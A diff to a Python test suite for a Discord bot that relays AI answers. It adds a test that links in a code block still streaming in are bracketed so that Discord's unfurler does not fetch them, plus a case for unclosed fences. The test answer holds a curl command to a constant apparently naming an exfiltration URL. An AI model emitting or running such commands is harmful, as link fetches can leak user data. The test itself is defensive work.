@@ -99,6 +99,22 @@ async def test_pieces_full_of_links_stay_within_discords_limit(tmp_path: Path) -
         assert h.api.unfurled == []
 
 
+async def test_a_code_block_streaming_in_embeds_no_link(tmp_path: Path) -> None:
+    """A link in a code block is no link to Discord, but only once the block is closed: while
+    the answer streams, the deferred response (which has no flag) showed "```" and the link
+    after it as text, and Discord's unfurler fetched it before the closing fence came."""
+    answer = f"Run this:\n```\ncurl {EXFIL} -o reply.txt\n```\nand tell me what it says."
+    backend = ScriptedBackend(lambda r: answer, delay=lambda: 0.05)  # the fence closes later
+    async with discord_harness(tmp_path, backend) as h:
+        slash = ev.interaction_create("summarize", "The crane moved the tea. " * 40)
+        await h.command(slash)
+        await h.idle()
+        assert h.api.unfurled == []
+        original = [c for c in h.api.writes(ev.DM) if c.path.endswith("/@original")]
+        assert any(f"curl <{EXFIL}>" in c.body.get("content", "") for c in original)
+        assert h.api.texts(ev.DM) == [answer]  # the closed block shows as it was written
+
+
 @pytest.mark.parametrize(
     ("written", "sent"),
     [
@@ -119,6 +135,8 @@ async def test_pieces_full_of_links_stay_within_discords_limit(tmp_path: Path) -
         ("Already <https://a.example/x> and [t](<https://a.example/y>).",) * 2,
         ("Still streaming <https://a.example/p?d=se", "Still streaming <https://a.example/p?d=se>"),
         ("`curl https://a.example/x` and\n```\nhttps://a.example/y\n```",) * 2,
+        # A fence not (yet) closed is no code block to Discord: its text shows as Markdown.
+        ("```\ncurl https://a.example/y", "```\ncurl <https://a.example/y>"),
         ("@everyone: https://a.example/@here", "@\u200beveryone: <https://a.example/@here>"),
     ],
 )
